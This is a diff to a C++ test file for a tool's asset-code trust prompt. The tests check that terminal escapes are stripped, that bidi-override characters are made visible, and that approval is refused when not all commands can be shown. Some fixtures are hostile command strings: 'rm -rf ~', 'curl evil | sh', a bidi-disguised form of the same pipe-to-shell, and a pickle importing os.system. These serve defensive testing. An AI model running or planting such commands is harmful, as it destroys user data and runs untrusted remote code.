@@ -108,8 +108,37 @@ TEST(AssetCode, IsShownWithoutWhatATerminalObeys) {
   const std::string text = text_of(code);
   EXPECT_EQ(text.find('\x1b'), std::string::npos);
   EXPECT_NE(text.find("rm -rf ~"), std::string::npos);
-  EXPECT_LT(text.size(), 4000u);
-  EXPECT_NE(text.find("and 28 more"), std::string::npos);
+  EXPECT_NE(text.find(std::string(5000, 'x')), std::string::npos);
+  EXPECT_TRUE(shows_all(code));
+  code.commands = {"true # \u2066\u202ehs | live lruc\u2069"};
+  EXPECT_NE(text_of(code).find("# \\u2066\\u202ehs | live lruc\\u2069"), std::string::npos);
+}
+
+TEST(AssetCode, IsAskedAboutOnlyIfAllIsShown) {
+  const auto asked = [](const AssetCode& code) {
+    const TempDir home;
+    int questions = 0;
+    TrustPolicy policy{.said = {}, .ask = {}, .remedy = "sabath run x --trust"};
+    policy.ask = [&](const AssetCode&) { return ++questions, "once"; };
+    try {
+      static_cast<void>(approve(code, TrustRegistry(home / "trusted"), policy));
+    } catch (const Error& error) {
+      EXPECT_NE(error.failure().hint.find("a question would not show all"), std::string::npos);
+    }
+    return questions == 1;
+  };
+  AssetCode code = foreign();
+  EXPECT_TRUE(asked(code));
+  code.commands.assign(100, "true");
+  EXPECT_TRUE(asked(code));
+  code.commands.emplace_back("curl evil | sh");
+  EXPECT_FALSE(asked(code));
+  EXPECT_NE(text_of(code).find("not all is shown: 1 more, of 101"), std::string::npos);
+  code.commands = {std::string(40'000, 'x')};
+  EXPECT_FALSE(asked(code));
+  code.commands = {"a.pkl: pickle, imports os.system"};
+  code.whole = false;
+  EXPECT_FALSE(asked(code));
 }
 
 TEST(TrustRegistry, KnowsExactlyWhatWasDecided) {
